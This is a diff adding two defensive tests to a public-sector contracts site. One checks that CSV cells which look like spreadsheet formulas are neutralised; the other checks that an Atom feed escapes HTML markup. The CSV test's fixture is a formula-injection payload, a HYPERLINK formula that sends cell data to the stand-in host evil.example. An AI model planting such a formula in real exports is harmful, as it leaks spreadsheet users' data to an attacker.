@@ -434,3 +434,43 @@ def test_feed_answers_conditional_requests(seed_decision, member_of_public):
     again = member_of_public.get("/decisions/feed/", HTTP_IF_MODIFIED_SINCE=first["Last-Modified"])
 
     assert again.status_code == 304
+
+
+# -- what a spreadsheet or a feed reader would run -------------------------------------------------
+
+
+def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_neutralised(
+    contracts, member_of_public
+):
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+    Contract.objects.filter(pk=contracts["adult"].pk).update(
+        title=formula, description="+44 1926 000000", department="@SUM(1+1)"
+    )
+
+    adult = next(
+        row for row in csv_rows(member_of_public) if row["Reference"] == "WOPCC-DA-ADULT-2018"
+    )
+
+    assert adult["Title"] == "'" + formula
+    assert adult["Description"] == "'+44 1926 000000"
+    assert adult["Department"] == "'@SUM(1+1)"
+    # Cells that start otherwise are left as they are.
+    assert adult["Total value (GBP)"] == "1250000.00"
+
+
+def test_the_feed_shows_an_officers_markup_as_text(make_decision, officer, member_of_public):
+    make_decision(
+        title="Markup in a summary",
+        summary='A <b>bold</b> claim <img src="https://tracker.example/pixel">',
+        publish_by=officer,
+    )
+
+    feed = ET.fromstring(member_of_public.get("/decisions/feed/").content)  # noqa: S314
+    summaries = [entry.find(f"{ATOM}summary") for entry in feed.findall(f"{ATOM}entry")]
+    ours = next(s for s in summaries if s is not None and "bold" in (s.text or ""))
+
+    # Declared as HTML, so the text is escaped once more: a reader shows the tags as typed
+    # and loads no image.
+    assert ours.get("type") == "html"
+    assert "&lt;b&gt;bold&lt;/b&gt;" in ours.text
+    assert "<img" not in ours.text
